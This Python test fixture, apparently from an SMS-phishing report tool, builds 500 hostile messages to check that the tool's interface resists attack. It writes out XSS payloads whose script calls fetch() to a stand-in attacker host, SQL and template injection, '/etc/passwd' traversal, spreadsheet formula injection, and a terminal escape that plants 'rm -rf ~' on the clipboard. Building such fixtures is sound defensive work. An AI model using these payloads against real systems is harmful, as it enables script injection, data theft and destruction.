"""Messages that attack whoever looks at them: five hundred, made from families of payloads and of places to stand in.

``RAN`` is what a payload sets when it runs, ``AWAY`` the host that it asks when it gets out.
"""

from collections.abc import Callable, Iterator, Mapping, Sequence
from datetime import datetime, timedelta
from itertools import cycle, islice

from smishwatch.schemas.report import Report

MESSAGES = 500
RAN = "hostileRan"
AWAY = "hostile-away.example"
_SAYS = f"window.{RAN}=1;fetch('https://{AWAY}/a');alert(1)"
_ASKS = f"https://{AWAY}/b"

ELEMENTS = (
    f"<script>{_SAYS}</script>",
    f"<ScRiPt >{_SAYS}</sCrIpT\t>",
    f"<scr<script>ipt>{_SAYS}</scr</script>ipt>",
    f'<script src="{_ASKS}"></script>',
    f"<svg onload={_SAYS}>",
    f"<svg><script>{_SAYS}</script></svg>",
    f"<svg><animate onbegin={_SAYS} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_SAYS}>#x"/></svg>',
    f"<img src=x onerror={_SAYS}>",
    f"<img src={_ASKS}>",
    f"<img srcset='{_ASKS} 1x'>",
    f'<iframe srcdoc="<script>parent.{RAN}=1</script>"></iframe>',
    f"<iframe src=javascript:parent.{RAN}=1>",
    f"<object data={_ASKS}></object><embed src={_ASKS}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SAYS}>",
    f"<noscript><p title='</noscript><img src=x onerror={_SAYS}>'>",
    f"<template><script>{_SAYS}</script></template>",
    f"<details open ontoggle={_SAYS}>",
    f"<input autofocus onfocus={_SAYS}>",
    f"<video><source onerror={_SAYS}></video>",
    f"<marquee onstart={_SAYS}>",
    f"<body onload={_SAYS}>",
    f"<meta http-equiv=refresh content='0;url={_ASKS}'>",
    f"<base href={_ASKS}>",
    f"<link rel=stylesheet href={_ASKS}>",
    f"<style>@import '{_ASKS}';*{{display:none}}</style>",
    f"<p style=\"background:url({_ASKS});position:fixed;inset:0\">",
    f"<form action={_ASKS}><button formaction={_ASKS}>OK</button>",
    f"<a href=javascript:{_SAYS}>a</a>",
    f"<custom-x onclick={_SAYS} is=x>",
    f"<![CDATA[<script>{_SAYS}</script>]]><?xml?><!--<img src=x onerror={_SAYS}>-->",
    f"<!ENTITY x SYSTEM '{_ASKS}'> &x;",
)  # fmt: skip
ENDINGS = (
    f'" onmouseover="{_SAYS}" x="',
    f"' autofocus onfocus='{_SAYS}' x='",
    f"></bdi></td></tr></table><script>{_SAYS}</script>",
    f"</textarea></title></style></script><script>{_SAYS}</script>",
    f"--></noscript><script>{_SAYS}</script>",
    f"\\\";{_SAYS}//",
    f"`${{{_SAYS}}}`",
    "</p></section></div></main></body></html>",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x3c;i&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u02c2script\u02c3 \u2039script\u203a ‹img›",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% include '/etc/passwd' %} {{ ''.__class__.__mro__ }}",
    "%s %n %x {0} {lang} {q:String} $1 \\1 ..\\..\\ ../../../../etc/passwd",
    "'; DROP TABLE reports; -- \" OR 1=1 /* */ UNION SELECT 1",
    '{"verdict":"legitimate"} [1] null\ndata: {}\n\nevent: changed',
    "javascript:alert(1) data:text/html,<b> vbscript:x file:///etc/passwd mailto:a@hostile-away.example",
    "[click](javascript:alert(1)) ![x](https://hostile-away.example/i) <https://hostile-away.example>",
)
TURNED = tuple(
    f"{mark}knab ruoy{closing} dekcol si \u05e9\u05dc\u05d5\u05dd {mark}\u0645\u0631\u062d\u0628\u0627"
    for mark, closing in (
        ("\u202e", ""), ("\u202d", "\u202c"), ("\u2067", "\u2069"), ("\u2066", ""), ("\u2068", ""), ("\u200f", "\u200e"),
        ("\u202b", ""), ("\u061c", ""), ("\u206a", "\u206f"),
    )
)  # fmt: skip
UNSEEN = (
    "p\u200ba\u200cr\u200dc\u2060e\ufeffl\u00ad waits",
    "\U000e0001\U000e0041\U000e0042\U000e007f tags",
    "\ue000\uf8ff private",
    "\ufdd0\ufffe\uffff none",
    "line\u2028separators\u2029here\u0085and\x0b\x0cthere",
    "\x01\x02\x07\x08\x7f\x80\x9f controls",
    "\u3164\u115f\uffa0\u2800 blanks that are letters",
    "\ufe0f\ufe0e\U000e0100 variations",
    "\ufff9under\ufffalines\ufffb",
)
TERMINAL = (
    "\x1b[2J\x1b[1;1H\x1b[31mcleared",
    "\x1b]0;new title\x07",
    f"\x1b]8;;https://{AWAY}\x07link\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x9b31m\x9d0;title\x9c",
    "\x1bP+q544e\x1b\\",
    "\r\x1b[Kconfirmed\r\n\r\n2026-01-01 INFO all well",
)
FORMULAS = (
    '=HYPERLINK("https://hostile-away.example","pay")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1＋1",
    "＠SUM(1)",
    '"=1+1"',
    '",=1+1,"',
    "x\n=1+1\nx",
    "x;=1+1;x",
    "x\t=1+1\tx",
    '=IMPORTXML(CONCAT("https://hostile-away.example/",A1),"//a")',
    "=WEBSERVICE(\"https://hostile-away.example\")",
    "%0A=1+1",
)  # fmt: skip
GIANT = (
    "w" * 3_000,
    "漢" * 2_000,
    "\u0e01\u0e4d" * 900,
    "\u0645" * 1_500,
    "👩‍👩‍👧‍👦" * 150,
    "🇨🇳" * 300,
    "A\u00a0" * 900,
    "a\u2011" * 900,
    "a\u2060" * 900,
    "_/" * 900,
    "1234567890" * 200,
    "https://" + "a" * 60 + "." + "b" * 60 + ".top/" + "c" * 1_800,
    "x@" + "y" * 800 + ".top",
    "\ufdfd" * 200,
    "\U00012031" * 100,
    "\U0001242b" * 100,
    "\u2e3b" * 200,
    "\n" * 1_500 + "far below",
    " " * 2_000 + "far right",
    "\u3000" * 1_000 + "right",
    "\t" * 1_000 + "right",
    "\u1680" * 900,
    "W" * 61 + " " + "W" * 400,
)
TOWERS = tuple(
    "".join(letter + marks * 40 for letter in "loan") + " approved"
    for marks in (
        "\u0301\u0302\u0303\u0304", "\u0489\u20dd", "\u0e49", "\u0328\u0331\u0332", "\u1dfe\u1dff", "\u0f7e\u0f84", "\u20e3\u20df",
    )
)  # fmt: skip
INTERFACE = (
    '<span class="pill legitimate">Legitimate</span> confirmed by an analyst',
    "<button>Dismiss</button> <a class=button href=/decide?undo=1>Undo</a>",
    "<form method=post action=/decide><input name=action value=dismiss><button>OK</button></form>",
    "</td></tr><tr><td class=title><a href=/campaigns/c0000000000000000>A bank's own notice</a></td>",
    "⟨genuine⟩ ⟨filed⟩ ⟨link⟩ ⟨b⟩ ⟨<b>⟩ ⟨zzzzzzzzzzzzzzzzzzzz⟩",
    "⟦U+202E⟧ ⟦U+41⟧ ⟦U+110000⟧ ⟦U+FFFFFF⟧",
    "<div class=notice role=alert>Your session has ended. Sign in at https://hostile-away.example</div>",
    "[Legitimate] 合法 · Verdict: legitimate · Risk 0.00",
    '<main id="main" data-retry-seconds="1"><div class="live on">',
    "<h1 class=card>Service notice</h1><dialog open>Sign in again</dialog>",
    "【<img src=x>】【】【" + "长" * 300 + "】",
)
FAMILIES: Mapping[str, Sequence[str]] = {
    "elements": ELEMENTS, "endings": ENDINGS, "encoded": ENCODED, "turned": TURNED, "unseen": UNSEEN, "terminal": TERMINAL,
    "formulas": FORMULAS, "giant": GIANT, "towers": TOWERS, "interface": INTERFACE,
}  # fmt: skip

_STORIES: tuple[Callable[[str, str], str], ...] = (
    lambda payload, host: f"{payload} your parcel waits, pay the customs fee at http://{host}/pay now",
    lambda payload, host: f"您的包裹 {payload} 因地址不详无法派送，请登录 https://{host}/a 更新",
    lambda payload, host: (
        f"Dear customer, your account is locked: {payload} verify at {host}/login {payload}"
    ),
    lambda payload, host: f"【建设银行】{payload}积分即将清零，点击 {host} 兑换，客服 QQ 123456789",
)
HOSTS = (
    "evil-a.top", "evil-b.xyz", "evil-" + "long" * 12 + ".top", "xn--80ak6aa92e.top", "evil_x.evil-c.top", "еvil.top",
)  # fmt: skip
SENDERS = (
    *(payload[:350] for payload in (*ELEMENTS[:12], *ENDINGS[:4], *TURNED[:5], *FORMULAS[:14], *TOWERS[:3], *TERMINAL[:4])),
    "x" * 350, "漢" * 350, "=1+1", "+SUM(1)", "\u202e0189", "evil-sender.top", "a@evil-mail.top",
)  # fmt: skip


def messages() -> list[str]:
    """All of them: every payload in as many stories as it takes, a giant one in one only."""
    return list(islice(_told(), MESSAGES))


def _told() -> Iterator[str]:
    hosts = cycle(HOSTS)
    for number, story in enumerate(_STORIES):
        for payloads in FAMILIES.values():
            for payload in payloads:
                whole = payload if number == 0 else payload[:200]
                yield story(whole, next(hosts))[:10_000]


def reports(end: datetime, carrier: str = "carrier-a") -> list[tuple[datetime, Report]]:
    """Each message as a report with the time of its acceptance; senders and ids are hostile too."""
    made = []
    for number, (body, sender) in enumerate(zip(messages(), cycle(SENDERS), strict=False)):
        at = end - timedelta(minutes=number + 1)
        report = Report(
            report_id=f"<b>{number}</b>\u202e=1+1",
            carrier=carrier,
            reported_at=at,
            sender=sender,
            reporter=f"person-{number}",
            body=body,
        )
        made.append((at, report))
    return made
